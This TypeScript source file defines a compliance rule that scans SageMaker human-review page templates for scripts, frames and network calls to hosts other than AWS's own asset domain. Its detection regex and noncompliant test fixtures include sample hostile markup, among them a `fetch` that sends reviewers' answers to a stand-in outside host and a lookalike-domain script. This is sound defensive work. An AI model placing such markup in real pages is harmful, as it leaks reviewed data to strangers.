import type { HumanTaskUIArgs } from "@pulumi/aws/sagemaker";
import { check, rule } from "../../lib/rule";
import { only, text } from "../../lib/values";

const page = (from: string) => ({
    uiTemplate: { content: `<script src="${from}"></script><crowd-form></crowd-form>` },
});

/** What runs in the page, lies in it, or takes what is in it; `{{ }}` stands for an address given at run time. */
const outside =
    /(?:<(?:script|iframe|embed|form|crowd-form)\b[^>]*\s(?:src|action)\s*=|\bimport\b[^;"'<]*|\bimport\(|\b(?:fetch|sendBeacon|WebSocket|open)\((?:\s*["'][A-Z]+["']\s*,)?)\s*["'`]?((?:https?:|wss?:)?\/\/[^"'`\s>]+)/gi;

export const humanTaskScripts = rule(
    {
        name: "sagemaker-human-task-ui-scripts-known",
        description: "Pages on which people review data load no script or frame of strangers, who would see the data.",
        severity: "high",
        remediation: "Load scripts from assets.crowd.aws alone, and neither frame nor post to other pages.",
        control: "scanned-intake",
        frameworks: { nist: ["SR-4", "SC-18"], pci: ["6.4.3"] },
        peers: {},
        requirements: ["R28"],
        tags: ["sagemaker", "labelling"],
    },
    check<HumanTaskUIArgs>("aws:sagemaker/humanTaskUI:HumanTaskUI", {
        find: ({ uiTemplate }) =>
            Array.from(text(only(uiTemplate)?.content).matchAll(outside), ([, from = ""]) => from)
                .filter((from) => !/^https:\/\/assets\.crowd\.aws\//i.test(from))
                .map((from) => `uiTemplate.content loads ${from}; load scripts from https://assets.crowd.aws alone`),
        compliant: {
            "AWS's elements": page("https://assets.crowd.aws/crowd-html-elements.js"),
            "a script of the page's own": {
                uiTemplate: { content: "<script>start()</script><crowd-form></crowd-form>" },
            },
        },
        noncompliant: {
            "a stranger's": page("https://cdn.example.com/x.js"),
            "in plaintext": page("http://assets.crowd.aws/crowd-html-elements.js"),
            "a module's import": {
                uiTemplate: { content: '<script type="module">import x from "https://esm.example.com/x"</script>' },
            },
            "data sent away": {
                uiTemplate: { content: "<script>fetch('https://example.com/x', { body: answers })</script>" },
            },
            "a frame": { uiTemplate: { content: "<iframe src=//example.com/x></iframe>" } },
            "one that looks like AWS's": page("https://assets.crowd.aws.example.com/x.js"),
        },
    }),
);
